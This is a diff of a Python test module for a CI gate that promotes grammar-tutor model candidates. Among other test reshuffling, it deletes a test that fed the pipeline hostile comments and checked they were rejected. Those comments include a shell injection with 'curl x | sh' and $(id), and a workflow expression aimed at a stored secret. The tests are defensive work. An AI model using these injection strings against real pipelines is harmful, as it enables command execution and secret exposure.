@@ -12,7 +12,6 @@ from lynx_pipeline_tests.simulators.actions.job import Hooks
 from lynx_pipeline_tests.simulators.actions.scenario import (
     Seen,
     V,
-    assert_promoted,
     bot_comment,
     latest_artifacts,
     message,
@@ -25,36 +24,7 @@ from lynx_pipeline_tests.simulators.actions.stage import Stage, request_text
 from lynx_pipeline_tests.support import REPO
 from lynx_pipeline_tests.support.places import BRANCH
 
-# ----- the two verdicts -----------------------------------------------------------------------
-
-
-def clean(stage: Stage) -> list[Seen]:
-    """A good candidate is promoted, tagged, and reported in the pull request and the channel."""
-    stage.clear()
-    run = stage.runner(stage.comment(request_text(stage.good, V))).run()
-    assert {job.result for job in run.jobs.values()} == {"success"}, result(run)
-    assert_promoted(stage)
-    assert bot_comment(stage).startswith(f"### Promoted `{V}`")
-    assert run.jobs["report"].summary.startswith(f"### Promoted `{V}`")
-    (notification,) = stage.channel.got
-    assert notification["title"] == f"grammar-tutor: promoted {V} in prod"
-    assert run.jobs["evaluate"].token not in run.jobs["evaluate"].log
-    return [Seen("a clean candidate", result(run), notification["title"], f"+ {V}, with its tag")]
-
-
-def regressed(stage: Stage) -> list[Seen]:
-    """A regressed candidate fails the run, and the comment shows the bucket table."""
-    stage.clear()
-    comment = stage.comment(request_text(stage.bad, V))
-    with unchanged(stage):
-        run = stage.runner(comment).run()
-    assert result(run) == "evaluate: exit code 1"
-    assert run.jobs["promote"].result == "skipped"
-    text = bot_comment(stage)
-    assert text.startswith(f"### Refused `{V}`: it failed the gate")
-    assert "| tense.past&#95;simple |" in text
-    assert run.jobs["report"].summary.strip() == text
-    return [Seen("a regressed candidate", result(run), message(run), "as before")]
+# ----- candidates ------------------------------------------------------------------------------
 
 
 def failing(stage: Stage) -> list[Seen]:
@@ -96,6 +66,9 @@ def several_models(stage: Stage) -> list[Seen]:
         text = f"{request_text(stage.good, V)} gate=strict-tutor"
         run = stage.runner(stage.comment(text)).run()
         assert {job.result for job in run.jobs.values()} == {"success"}, result(run)
+    assert run.jobs["evaluate"].token not in run.jobs["evaluate"].log
+    assert bot_comment(stage).startswith(f"### Promoted `{V}`")
+    assert run.jobs["report"].summary.strip() == bot_comment(stage)
     assert stage.registry.tags() == [f"strict-tutor@{V}"]
     branches = [it for it in stage.registry.refs() if it.startswith("refs/heads/")]
     assert branches == [f"refs/heads/{BRANCH}/strict-tutor"]
@@ -107,39 +80,6 @@ def several_models(stage: Stage) -> list[Seen]:
 
 
 # ----- requests -------------------------------------------------------------------------------
-
-
-def hostile_comments(stage: Stage) -> list[Seen]:
-    """Comments that a shell, an expression or a lenient parser would misread."""
-    good = request_text(stage.good, V)
-    return [
-        _rejected_comment(
-            stage, "quotes and $()", f"\"; curl x | sh #$(id)`id`' {good}", "can't be read"
-        ),
-        _rejected_comment(
-            stage, "an expression", good + "${{ secrets.APPRISE_URLS }}", "can't be read"
-        ),
-        _rejected_comment(
-            stage, "newlines", f"mlflow_run_id={stage.good}\nsemver={V}", "contains 2 requests"
-        ),
-        _rejected_comment(stage, "two requests", f"{good}\n{good}", "contains 2 requests"),
-        _rejected_comment(
-            stage, "a look-alike", good.replace("semver", "\u0455emver"), "can't be read"
-        ),
-        _rejected_comment(stage, "60 kB", "a" * 60_000 + good, "can't be read"),
-    ]
-
-
-def _rejected_comment(stage: Stage, what: str, text: str, says: str) -> Seen:
-    stage.clear()
-    comment = stage.comment(text)
-    with unchanged(stage):
-        run = stage.runner(comment).run()
-    assert result(run) == "request: exit code 2", run.jobs["request"].log
-    assert says in message(run)
-    assert run.jobs["evaluate"].result == "skipped"
-    assert "semver&#61;v1.2.3" in bot_comment(stage) or "semver=v1.2.3" in bot_comment(stage)
-    return Seen(f"hostile comment: {what}", result(run), message(run), "as before")
 
 
 def strangers(stage: Stage) -> list[Seen]:
